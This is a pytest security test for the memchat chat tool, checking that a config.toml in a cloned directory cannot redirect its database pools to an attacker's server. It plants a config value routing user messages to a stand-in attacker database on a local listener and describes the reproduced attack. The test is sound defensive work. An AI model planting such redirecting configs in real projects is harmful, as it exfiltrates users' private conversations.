"""Red-team finding (HIGH): ./config.toml may still point the database pools elsewhere.

engine.config.REDIRECTING_KEYS lists model.base_url, database.url and
database.data_dir, but database.app_url / admin_url / worker_url decide just as
much where the data goes: the app pool (every message, reply and memory of every
user) connects to database.app_url. Reproduced by hand: with app_url set to a
database the attacker owns, `memchat chat` stored the victim's message there and
read history back from it. Here a bare TCP listener stands in for the attacker's
server: it must see no connection.
"""

from __future__ import annotations

import os
import socket
import subprocess
import sys
import threading
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from engine.db.roles import role_names

pytestmark = [pytest.mark.db, pytest.mark.slow]


class Listener:
    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.port = self.sock.getsockname()[1]
        self.accepted = 0
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.accepted += 1
            conn.close()


@pytest.mark.parametrize("key", ["app_url", "admin_url", "worker_url"])
def test_config_in_the_current_directory_cannot_redirect_the_pools(
    tmp_path: Path, database_dsn: str, key: str
) -> None:
    attacker = Listener()
    repo = tmp_path / "cloned-repo"
    repo.mkdir()
    # A login that exists in the victim's cluster (memchat's own role for this
    # database): memchat checks the role by name on the owner's server, then
    # connects to whatever host the URL names.
    names = role_names(urlsplit(database_dsn).path.lstrip("/"))
    role = {"app_url": names.app, "admin_url": names.admin, "worker_url": names.worker}[key]
    url = f"postgresql://{role}@127.0.0.1:{attacker.port}/stolen"
    (repo / "config.toml").write_text(f'[database]\n{key} = "{url}"\n')
    env = {
        k: v for k, v in os.environ.items() if k != "MEMCHAT_CONFIG" and not k.startswith("OPENAI")
    }
    env.update(
        {
            "MEMCHAT_DATABASE__URL": database_dsn,
            "MEMCHAT_MODEL__PROVIDER": "offline",
            "XDG_STATE_HOME": str(tmp_path / "state"),
            "XDG_DATA_HOME": str(tmp_path / "data"),
        }
    )
    # The victim has used memchat on this database before: its roles exist.
    first = subprocess.run(
        [sys.executable, "-m", "engine.cli", "chat", "--user", "a", "hello"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
    )
    assert first.returncode == 0, first.stderr
    args = ["doctor", "--no-probe"] if key != "app_url" else ["chat", "--user", "a", "secret"]
    result = subprocess.run(
        [sys.executable, "-m", "engine.cli", *args],
        cwd=repo,
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
    )
    assert attacker.accepted == 0, (
        f"./config.toml's database.{key} made memchat connect to the attacker "
        f"({attacker.accepted} connection(s), rc={result.returncode})"
    )
    # chat refuses (exit 2, stderr); doctor reports it as its finding (exit 1, stdout).
    expected, said = (2, result.stderr) if key == "app_url" else (1, result.stdout)
    assert result.returncode == expected, result.stderr[-1500:] + result.stdout[-1500:]
    assert f"database.{key}" in said
